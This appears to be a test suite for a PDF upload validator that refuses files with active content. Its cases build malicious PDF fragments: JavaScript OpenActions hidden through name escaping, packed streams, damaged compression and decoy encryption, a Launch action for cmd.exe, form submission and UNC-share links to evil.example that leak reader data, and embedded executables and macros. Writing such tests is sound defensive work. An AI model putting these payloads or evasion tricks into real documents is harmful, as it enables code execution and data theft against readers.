import { constants, deflateSync, inflateSync } from "node:zlib";
import { afterAll, describe, expect, test } from "vitest";
import { testApp } from "#app/testing.ts";
import {
  buildCompoundFile,
  buildDocx,
  buildEmbeddedFile,
  buildObjectStream,
  buildPdf,
  buildPdfOf,
} from "./testing/documents.ts";
import { none, storageClient } from "./testing/storage-client.ts";

const app = await testApp();
await app.startJobs();
afterAll(() => app.close());
const acme = await app.tenant("acme");
const lena = await app.as("referrer", acme);
const { put, orphans } = storageClient(app, "acme");
const send = async (bytes: Buffer) => {
  const answer = await put(lena, `attachments/${lena.personId}/offer.pdf`, bytes);
  return [answer.statusCode, answer.json().error?.reason ?? "taken"];
};
const refused = [422, "files.activeContent"];
const taken = [200, "taken"];

const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
const script = "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>";
const flate = "/Filter /FlateDecode";
const encryption = "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>";
const closedStream = "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n\xff\x00\x01endstream";
const wrongSum = (packed: Buffer) => Buffer.concat([packed.subarray(0, -1), Buffer.from([packed.at(-1)! ^ 255])]);
/** Readers use whatever they could decompress before the damage. */
const wrongEnd = (packed: Buffer) =>
  Buffer.concat([deflateSync(inflateSync(packed), { finishFlush: constants.Z_SYNC_FLUSH }), Buffer.from([7])]);

describe("an attacker cannot run a script or a program when a PDF is opened", () => {
  test.each<[string, Buffer]>([
    ["by an action at opening", buildPdfOf("<< /Type /Catalog /OpenAction 2 0 R >>", script)],
    ["by an action in the catalog", buildPdfOf("<< /Type /Catalog /OpenAction << /S /JavaScript /JS 2 0 R >> >>")],
    ["by a name written otherwise", buildPdfOf(catalog, "<< /S /J#61vaScript /J#53 (1) >>")],
    ["by a list of scripts", buildPdfOf("<< /Type /Catalog /Names << /JavaScript 2 0 R >> >>", "<< >>")],
    ["by a program", buildPdfOf(catalog, "<< /S /Launch /F (cmd.exe) >>")],
    ["in a packed stream of objects", buildPdfOf(catalog, buildObjectStream(["<< /Type /Page >>", script]))],
    ["in a packed stream whose checksum is wrong", buildPdfOf(catalog, buildObjectStream([script], flate, wrongSum))],
    [
      "in such a stream, in a file that only says it is encrypted",
      buildPdfOf(catalog, "<< /Encrypt 9 0 R >>", buildObjectStream([script], flate, wrongSum)),
    ],
    [
      "in a stream whose end is damaged, in a file with a decoy of an encryption",
      buildPdfOf(catalog, encryption, "<< /Encrypt 2 0 R >>", buildObjectStream([script], flate, wrongEnd)),
    ],
    [
      "in a closed stream, in a file that only says it is encrypted",
      buildPdfOf(catalog, "<< /Encrypt 9 0 R >>", closedStream),
    ],
    ["behind a string that never ends", buildPdfOf(catalog, buildObjectStream(["(", script, ")"]))],
    [
      "in a stream of objects packed twice",
      buildPdfOf(catalog, buildObjectStream([script], "/Filter [/ASCIIHexDecode /FlateDecode]")),
    ],
    [
      "in the data of another object",
      buildPdfOf(catalog, `<< /Length 90 /Filter /DCTDecode >>\nstream\n7 0 obj ${script} endobj\nendstream`),
    ],
    ["behind a comment", buildPdfOf(catalog, `% (stream\n${script}`)],
    ["behind a number and a comment", Buffer.from(`%PDF-1.7\n7 0 % x\nobj${script}\nendobj\n`)],
  ])("rejects a script or program %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(refused);
  });

  test.each<[string, Buffer]>([
    ["words about it", buildPdfOf("<< /Type /Catalog /Title (HTML/CSS/JavaScript /JS \\(1\\) ) /Author <2f4a53> >>")],
    ["a page that shows it", buildPdfOf(catalog, "<< /Length 20 >>\nstream\nBT (/JavaScript /JS) Tj ET\nendstream")],
    [
      "pages in a packed stream",
      buildPdfOf(catalog, buildObjectStream(["<< /Type /Page >>", "(/JS)", "12", "<< /A [ 1 2 ] >>"])),
    ],
    ["links to pages of the web", buildPdfOf(catalog, "<< /S /URI /URI (https://example.com) >>")],
    ["an encrypted stream of objects", buildPdfOf(catalog, encryption, "<< /Encrypt 2 0 R >>", closedStream)],
    [
      "a packed stream whose checksum is wrong",
      buildPdfOf(catalog, buildObjectStream(["<< /Type /Page >>"], flate, wrongSum)),
    ],
    ["nothing but noise", buildPdf(3_000_000)],
  ])("accepts a PDF with %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(taken);
  });
});

describe("an attacker cannot learn what a reader types into a PDF, or who the reader is", () => {
  const goTo = (file: string) => `<< /S /GoToR /F ${file} /D [0 /Fit] >>`;
  const unc = "(\\\\\\\\evil.example\\\\share\\\\a.pdf)";
  test.each<[string, Buffer]>([
    ["by a form that is sent", buildPdfOf(catalog, "<< /S /SubmitForm /F (https://evil.example) >>")],
    ["by a form that takes data in", buildPdfOf(catalog, "<< /S /ImportData /F (a.fdf) >>")],
    [
      "by a form of another language",
      buildPdfOf("<< /Type /Catalog /AcroForm << /XFA 2 0 R /Fields [] >> >>", "<< >>"),
    ],
    ["by a file of another machine", buildPdfOf(catalog, goTo(unc))],
    ["by one written in numbers", buildPdfOf(catalog, goTo("<5c5c6576696c2e6578616d706c655c61>"))],
    ["by one written in Unicode", buildPdfOf(catalog, goTo("<FEFF005c005c006500760069006c005c0061>"))],
    ["by one named in another object", buildPdfOf(catalog, goTo("3 0 R"), unc)],
    ["by one named in a packed object", buildPdfOf(catalog, goTo("10 0 R"), buildObjectStream([unc]))],
    ["by a file inside one of another machine", buildPdfOf(catalog, `<< /S /GoToE /F << /UF ${unc} >> >>`)],
  ])("rejects tracking %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(refused);
  });

  test.each<[string, Buffer]>([
    [
      "form fields",
      buildPdfOf("<< /Type /Catalog /AcroForm << /Fields [2 0 R] >> >>", "<< /FT /Tx /T (name) /V (Ana) /F 4 >>"),
    ],
    [
      "a signature",
      buildPdfOf(
        "<< /Type /Catalog /AcroForm << /Fields [2 0 R] /SigFlags 3 >> >>",
        "<< /FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 9 9 9] /Contents <3082> >> >>",
      ),
    ],
    [
      "addresses in objects of their own",
      buildPdfOf(catalog, "(https://www.example.com)", "(ana@example.com)", "(Ana)"),
    ],
    ["a file of the web", buildPdfOf(catalog, "<< /Type /Filespec /FS /URL /F (https://www.example.com) >>")],
    ["a link to the document beside it", buildPdfOf(catalog, goTo("(appendix.pdf)"))],
    ["where it was printed from in its title", buildPdfOf(catalog, `<< /Title ${unc} >>`)],
  ])("accepts a PDF with %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(taken);
  });
});

describe("an attacker cannot deliver a program hidden in a PDF", () => {
  const named = (name: string) => `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 3 0 R >> >>`;
  const program = Buffer.alloc(512);
  program.write("MZ", 0, "latin1");
  program.writeUInt32LE(128, 60);
  program.write("PE\0\0", 128, "latin1");
  const vba = buildCompoundFile(["Root Entry", "VBA", "dir", "_VBA_PROJECT", "PROJECT"]);
  const invoice = '<?xml version="1.0"?><rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece"/>';
  test.each<[string, Buffer]>([
    ["by its name", buildPdfOf(catalog, named("invoice.pdf.exe"), buildEmbeddedFile("x"))],
    [
      "by its name in another object",
      buildPdfOf(catalog, "<< /UF 4 0 R /EF << /F 3 0 R >> >>", buildEmbeddedFile("x"), "(a.js)"),
    ],
    ["by its content", buildPdfOf(catalog, named("a.dat"), buildEmbeddedFile(program))],
    ["by its content, not called a file", buildPdfOf(catalog, named("a.dat"), buildEmbeddedFile(program, ""))],
    ["as macros", buildPdfOf(catalog, named("a.doc"), buildEmbeddedFile(vba))],
    [
      "as macros in a document",
      buildPdfOf(catalog, named("a.docx"), buildEmbeddedFile(buildDocx({ "word/vbaProject.bin": vba }))),
    ],
    ["as a PDF with a script", buildPdfOf(catalog, named("a.pdf"), buildEmbeddedFile(buildPdfOf(catalog, script)))],
    [
      "packed as no program does",
      buildPdfOf(
        catalog,
        named("a.dat"),
        "<< /Type /EmbeddedFile /Filter /ASCIIHexDecode >>\nstream\n4d5a>\nendstream",
      ),
    ],
  ])("rejects a hidden program %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(refused);
  });

  test.each<[string, Buffer]>([
    [
      "an electronic invoice",
      buildPdfOf(
        catalog,
        named("factur-x.xml"),
        buildEmbeddedFile(invoice, "/Type /EmbeddedFile /Subtype /text#2Fxml"),
      ),
    ],
    ["another PDF", buildPdfOf(catalog, named("terms.pdf"), buildEmbeddedFile(buildPdfOf(catalog)))],
    ["a document", buildPdfOf(catalog, named("terms.docx"), buildEmbeddedFile(buildDocx()))],
    ["a page that begins like a program", buildPdfOf(catalog, buildEmbeddedFile("MZ 1 0 0 1 0 0 cm", ""))],
  ])("accepts a PDF with %s", async (_, bytes) => {
    expect(await send(bytes)).toEqual(taken);
  });
});

test("a rejected file leaves nothing behind", async () => {
  await expect.poll(orphans).toEqual(none);
});
